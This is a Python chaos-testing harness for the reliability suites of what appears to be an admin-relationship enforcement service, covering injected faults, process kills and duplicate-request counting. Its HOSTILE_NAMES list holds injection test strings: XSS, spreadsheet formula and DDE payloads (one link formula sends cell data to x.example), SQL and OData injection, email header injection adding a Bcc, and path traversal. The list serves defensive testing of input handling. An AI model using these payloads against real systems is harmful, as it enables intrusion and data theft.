"""Chaos harness for the reliability suites (tests/test_faults.py, test_crash_resume.py, test_concurrency.py,
test_hostile_input.py, test_fuzz_api.py; ``make soak``): fault plans, kill points, and the bookkeeping
that says whether anything happened twice or went missing.

* ``python -m tools.chaos cli [--lease-seconds S] -- <shared.cli arguments>`` runs the real command line
  with the removal / notification leases and the queue's processing visibility shortened to ``S``
  seconds. A process killed with SIGKILL holds its lease and its received queue messages until they
  time out (2 and 5 minutes in production); the shortened clock stands for that wait, nothing else.
* ``python -m tools.chaos figures`` sums the figures the suites wrote to ``test-artifacts/reliability/``
  (the numbers in docs/reliability.md).

Counting rules (from the emulator, which records what it *executed*):

* a GDAP terminate request is counted when the emulator accepted it (it is in the relationship's
  ``requests``); a second terminate of the same relationship would be a duplicate removal request;
* a DAP ``PATCH`` is counted when the emulator executed it: answered normally, or executed and then
  answered late (``timeout``) or cut (``truncate``); injected 429/5xx and resets execute nothing;
* a mail is counted per outbox entry, keyed by sender, recipients and subject.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import re
import signal
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any

from shared.domain.report import Report
from shared.evaluation.audit import audit

ROOT = Path(__file__).resolve().parent.parent
FIGURES = ROOT / "test-artifacts" / "reliability"
EXECUTED_FAULTS = frozenset({"timeout", "truncate"})  # the emulator executes these requests
TERMINATED = frozenset({"terminationRequested", "terminating", "terminated"})
FAULT_KINDS: tuple[dict[str, Any], ...] = (
    {"status": 429, "retryAfter": 1},
    {"status": 500},
    {"status": 503, "retryAfter": 1},
    {"status": 504},
    {"kind": "reset"},
    {"kind": "timeout", "delaySeconds": 1.5},  # longer than the tests' client timeout (1 s)
    {"kind": "truncate"},
)

# Customer-controlled strings that must stay inert everywhere they are shown or sent.
HOSTILE_NAMES: tuple[str, ...] = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(document.domain)</script>",
    '=HYPERLINK("http://x.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE Customers; --",
    '" onmouseover="alert(1)" x="',
    "Contoso\r\nBcc: evil@x.example\r\nSubject: pwned",
    "Contoso\nX-Injected: 1",
    "\u202eLTD osotnoC\u202c",
    "Zero\u200bWidth\u200c\u200dJoiner\ufeff",
    "Emoji \U0001f600\U0001f469\u200d\U0001f4bb Ltd",
    "' or 1 eq 1 or displayName eq '",
    "name') or (1 eq 1",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "../../etc/passwd\\..\\windows",
    "A" * 1000,
    "株式会社テスト\u3000全角",
    "\u0000Nul\u0007Bell\u001bEsc",
    "line\u2028separator\u2029para\u0085nel",
)


# --- the command line with a short lease clock ----------------------------------------------------------


def fast_clock(lease_seconds: float) -> None:
    """Shorten the removal and notification leases and the queue's processing visibility."""
    import shared.notifications.worker as notifications
    import shared.platform.queues as queues
    import shared.removals.store as removals

    removals.LEASE = timedelta(seconds=lease_seconds)
    notifications.LEASE = timedelta(seconds=lease_seconds)
    queues.PROCESSING_VISIBILITY = max(1, int(lease_seconds))


def cli_command(args: list[str], lease_seconds: float = 2.0) -> list[str]:
    return [sys.executable, "-m", "tools.chaos", "cli", "--lease-seconds", str(lease_seconds), "--", *args]


def endpoint_label(method: str, prefix: str) -> str:
    """A fault's endpoint without ids: 'POST /v1.0/.../delegatedAdminRelationships/{id}/requests'."""
    path = re.sub(r"[0-9a-fA-F]{8}-[0-9a-fA-F-]{27,}", "{id}", prefix)
    if method == "POST" and path.startswith("/v1.0/users/"):
        path = "/v1.0/users/{sender}/sendMail"
    return f"{method} {path}"


# --- what the emulator executed ---------------------------------------------------------------------------


def executed(entry: dict[str, Any]) -> bool:
    fault = entry.get("fault")
    return fault is None or fault in EXECUTED_FAULTS


def terminate_requests(state: dict[str, Any]) -> Counter[str]:
    """Accepted terminate requests per GDAP relationship id."""
    out: Counter[str] = Counter()
    for customer in state.get("customers", []):
        for rel in customer.get("gdapRelationships", []):
            for request in rel.get("requests", []):
                if request.get("action") == "terminate":
                    out[rel["id"]] += 1
    return out


def dap_patches(log: Iterable[dict[str, Any]]) -> Counter[str]:
    """Executed DAP removal PATCHes per customer tenant id."""
    out: Counter[str] = Counter()
    for entry in log:
        path = str(entry.get("path", ""))
        if (
            entry.get("method") == "PATCH"
            and path.lower().startswith("/partnercenter/v1/customers/")
            and executed(entry)
        ):
            out[path.rstrip("/").rsplit("/", 1)[1].lower()] += 1
    return out


DIGEST_SUBJECT = "Delegated admin enforcement "
GUID = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")


def is_digest(item: dict[str, Any]) -> bool:
    return str((item.get("message") or {}).get("subject", "")).startswith(DIGEST_SUBJECT)


def announced(state: dict[str, Any]) -> Counter[str]:
    """In how many distinct partner digests each customer was listed under "Queued for removal". A
    digest that arrived twice, identical (its ``sendMail`` answer was lost), is one digest here: it is
    counted as a mail sent twice by :func:`duplicates`."""
    out: Counter[str] = Counter()
    seen: set[tuple[tuple[str, str, tuple[str, ...]], str]] = set()
    for item in state.get("outbox", []):
        if is_digest(item):
            body = str(((item.get("message") or {}).get("body") or {}).get("content", ""))
            if (mail_key(item), body) in seen:
                continue
            seen.add((mail_key(item), body))
            section = body.split("Queued for removal", 1)[-1].split("Warned ahead", 1)[0]
            out.update(set(GUID.findall(section)))
    return out


def mail_key(item: dict[str, Any]) -> tuple[str, str, tuple[str, ...]]:
    message = item.get("message") or {}
    to = tuple(
        sorted(
            str((r.get("emailAddress") or {}).get("address", "")) for r in message.get("toRecipients") or []
        )
    )
    return str(item.get("from", "")), str(message.get("subject", "")), to


def mails(state: dict[str, Any]) -> Counter[tuple[str, str, tuple[str, ...]]]:
    """Every mail but the partner digests (see :func:`announced`)."""
    return Counter(mail_key(m) for m in state.get("outbox", []) if not is_digest(m))


@dataclass
class Tally:
    """Duplicates found in one emulator run (the goal is none)."""

    terminates: dict[str, int] = field(default_factory=dict)
    dap_patches: dict[str, int] = field(default_factory=dict)
    mails: list[tuple[str, str, tuple[str, ...]]] = field(default_factory=list)

    @property
    def total(self) -> int:
        return (
            sum(n - 1 for n in self.terminates.values())
            + sum(n - 1 for n in self.dap_patches.values())
            + len(self.mails)
        )

    def to_json(self) -> dict[str, Any]:
        return {
            "terminates": self.terminates,
            "dapPatches": self.dap_patches,
            "mails": [list(m[:2]) + [list(m[2])] for m in self.mails],
            "total": self.total,
        }


def duplicates(state: dict[str, Any], log: list[dict[str, Any]]) -> Tally:
    """Requests and mails the emulator executed more than once. A mail counts twice when the same
    message (sender, recipients, subject, body) arrived twice; a digest that lists a removal again
    with others (after a crash) is a different message."""
    counted_mails: Counter[tuple[str, str, tuple[str, ...]]] = Counter()
    bodies: dict[tuple[str, str, tuple[str, ...]], set[str]] = {}
    for item in state.get("outbox", []):
        key = mail_key(item)
        body = str(((item.get("message") or {}).get("body") or {}).get("content", ""))
        if is_digest(item) and body not in bodies.setdefault(key, set()):
            bodies[key].add(body)
            if len(bodies[key]) > 1:
                continue  # the same subject, another list: not the same mail
        counted_mails[key] += 1
    return Tally(
        terminates={k: n for k, n in terminate_requests(state).items() if n > 1},
        dap_patches={k: n for k, n in dap_patches(log).items() if n > 1},
        mails=[k for k, n in counted_mails.items() for _ in range(n - 1)],
    )


def outcome(state: dict[str, Any]) -> dict[str, Any]:
    """What the product did to the estate, independent of how often the emulator was read since."""
    gdap: dict[str, str] = {}
    dap: dict[str, bool | None] = {}
    for customer in state.get("customers", []):
        dap[customer["tenantId"]] = None if not customer.get("dap") else bool(customer["dap"].get("enabled"))
        for rel in customer.get("gdapRelationships", []):
            gdap[rel["id"]] = "terminated" if rel["status"] in TERMINATED else rel["status"]
    return {
        "gdap": gdap,
        "dap": dap,
        "mails": sorted(set(mails(state))),
        "announced": sorted(announced(state)),
    }


# --- the Actions trail --------------------------------------------------------------------------------------

IGNORED_ACTIONS = frozenset({"removal.attempt"})  # a failed attempt under injected faults is a true record


async def action_rows(settings: Any) -> list[dict[str, Any]]:
    from shared.platform.storage import Storage, query_all

    storage = Storage(settings)
    try:
        await storage.ensure()
        return [e async for e in query_all(storage.table("Actions"))]
    finally:
        await storage.close()


def action_summary(rows: list[dict[str, Any]]) -> Counter[tuple[str, str, str, str]]:
    return Counter(
        (
            str(r["PartitionKey"]),
            str(r.get("Action", "")),
            str(r.get("Result", "")),
            str(r.get("RelationshipId", "")),
        )
        for r in rows
        if r.get("Action") not in IGNORED_ACTIONS
    )


DONE = {"gdap.terminate": ("requested", "completed"), "dap.disable": ("completed",)}
# A later read saw the termination finish (timing, not a decision); digests are compared by what they
# announce (outcome()["announced"]), not by how many there were.
PROGRESS = frozenset({"gdap.terminated", "notification.partner-digest"})
FINAL = frozenset({"removal.requested", "removal.completed"})


def canonical_actions(rows: list[dict[str, Any]]) -> Counter[tuple[str, str, str, str]]:
    """What was decided and done, independent of how far asynchronous terminations had progressed when
    a run looked (a run that resumes after a crash may find a termination already finished, and write
    ``completed`` where an undisturbed run wrote ``requested`` and, a read later, ``terminated``)."""
    out: Counter[tuple[str, str, str, str]] = Counter()
    finals: set[tuple[str, str, str, str]] = set()
    for key in action_summary(rows).elements():
        tenant, action, result, rel = key
        if action in PROGRESS:
            continue
        if action in FINAL:
            finals.add((tenant, "removal.done", "done", rel))
            continue
        if action in DONE and result in DONE[action]:
            key = (tenant, action, "done", rel)
        out[key] += 1
    out.update(finals)
    return out


def duplicate_action_ids(rows: list[dict[str, Any]]) -> list[str]:
    """ActionIds recorded more than once (a record written twice for one event)."""
    counts = Counter((str(r["PartitionKey"]), str(r.get("ActionId", ""))) for r in rows)
    return sorted(f"{pk}/{aid}" for (pk, aid), n in counts.items() if n > 1)


# --- the undisturbed reference ---------------------------------------------------------------------------------

_REFERENCES: dict[str, dict[str, Any]] = {}


def enforcement_reference(
    emulator: Any, scenario: dict[str, Any], settings: Any, as_of: str = "2026-11-21T00:00:00Z"
) -> dict[str, Any]:
    """One undisturbed enforcement cycle on ``scenario`` (evaluation, removal and mail queues drained,
    then an audit of what is left), computed once per test session and shared by the suites."""
    key = hashlib.sha256(
        json.dumps(
            [scenario, settings.policy_mode, settings.remove_after_days, as_of], sort_keys=True, default=str
        ).encode()
    ).hexdigest()
    if key not in _REFERENCES:
        _REFERENCES[key] = _reference(emulator, scenario, settings, as_of)
    return _REFERENCES[key]


def _reference(emulator: Any, scenario: dict[str, Any], settings: Any, as_of: str) -> dict[str, Any]:
    import asyncio

    from shared.evaluation.run import run_evaluation
    from shared.notifications.worker import drain_notifications
    from shared.platform.timeutil import parse_iso
    from shared.removals.worker import drain_removals
    from shared.services import Services

    async def cycle() -> tuple[dict[str, Any], int, Report]:
        async with Services(settings) as services:
            summary = await run_evaluation(services, parse_iso(as_of))
            removals = await drain_removals(services)
            notifications = await drain_notifications(services)
            report = await audit(services, parse_iso(as_of))
        return summary, len(removals.poisoned) + len(notifications.poisoned), report

    emulator.post_scenario(scenario)
    summary, poisoned, report = asyncio.run(cycle())
    state = emulator.state(sign_ins=False)
    found = duplicates(state, emulator.log())
    if found.total or poisoned:
        raise AssertionError(
            f"the undisturbed reference run is not clean: {found.to_json()}, {poisoned} poisoned"
        )
    rows = asyncio.run(action_rows(settings))
    return {
        "scenario": scenario,
        "report": report,
        "rows": rows,
        "outcome": outcome(state),
        "result": {
            "queued": sorted(q["tenantId"] for q in summary["queued"]),
            "warned": summary["warned"],
            "poisoned": poisoned,
        },
    }


# --- killing a process ------------------------------------------------------------------------------------


@dataclass
class KillResult:
    killed: bool
    returncode: int | None
    seconds: float
    stdout: str = ""
    stderr: str = ""


def run_until(
    command: list[str],
    env: dict[str, str],
    *,
    kill_when: Callable[[float], bool] | None,
    timeout: float = 180.0,
    poll: float = 0.02,
) -> KillResult:
    """Run ``command``; SIGKILL it as soon as ``kill_when(elapsed)`` says so. Output is kept."""
    started = time.monotonic()
    out_path = FIGURES.parent / f".chaos-{os.getpid()}-{time.time_ns()}"
    out_path.parent.mkdir(parents=True, exist_ok=True)
    with open(f"{out_path}.out", "w+b") as out, open(f"{out_path}.err", "w+b") as err:
        process = subprocess.Popen(command, cwd=ROOT, env=env, stdout=out, stderr=err)
        killed = False
        try:
            while process.poll() is None:
                elapsed = time.monotonic() - started
                if elapsed > timeout:
                    process.kill()
                    process.wait()
                    raise TimeoutError(f"{command} ran longer than {timeout} s")
                if kill_when is not None and kill_when(elapsed):
                    process.send_signal(signal.SIGKILL)
                    process.wait()
                    killed = True
                    break
                time.sleep(poll)
        finally:
            if process.poll() is None:
                process.kill()
                process.wait()
        out.seek(0)
        err.seek(0)
        stdout, stderr = out.read().decode("utf-8", "replace"), err.read().decode("utf-8", "replace")
    for suffix in (".out", ".err"):
        Path(f"{out_path}{suffix}").unlink(missing_ok=True)
    return KillResult(killed, process.returncode, time.monotonic() - started, stdout, stderr)


def fault_served(emulator: Any, index: int) -> bool:
    faults = emulator.faults()
    return index < len(faults) and int(faults[index].get("served", 0)) > 0


# --- figures ------------------------------------------------------------------------------------------------


def record(name: str, figures: dict[str, Any]) -> Path:
    """Write one suite's figures (overwritten by the next run of the same suite)."""
    FIGURES.mkdir(parents=True, exist_ok=True)
    path = FIGURES / f"{name}.json"
    path.write_text(json.dumps(figures, indent=1, sort_keys=True, ensure_ascii=False), encoding="utf-8")
    return path


def collected() -> dict[str, Any]:
    return {p.stem: json.loads(p.read_text(encoding="utf-8")) for p in sorted(FIGURES.glob("*.json"))}


# --- entry point --------------------------------------------------------------------------------------------


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m tools.chaos")
    commands = parser.add_subparsers(dest="command", required=True)
    cli = commands.add_parser("cli", help="python -m shared.cli with a short lease clock")
    cli.add_argument("--lease-seconds", type=float, default=2.0)
    cli.add_argument("args", nargs=argparse.REMAINDER)
    commands.add_parser("figures", help="print the figures written by the reliability suites")
    args = parser.parse_args(argv)
    if args.command == "figures":
        print(json.dumps(collected(), indent=1, sort_keys=True, ensure_ascii=False))
        return 0
    fast_clock(args.lease_seconds)
    from shared.cli.main import main as cli_main

    rest = list(args.args[1:] if args.args[:1] == ["--"] else args.args)
    return cli_main(rest)


if __name__ == "__main__":
    sys.exit(main())
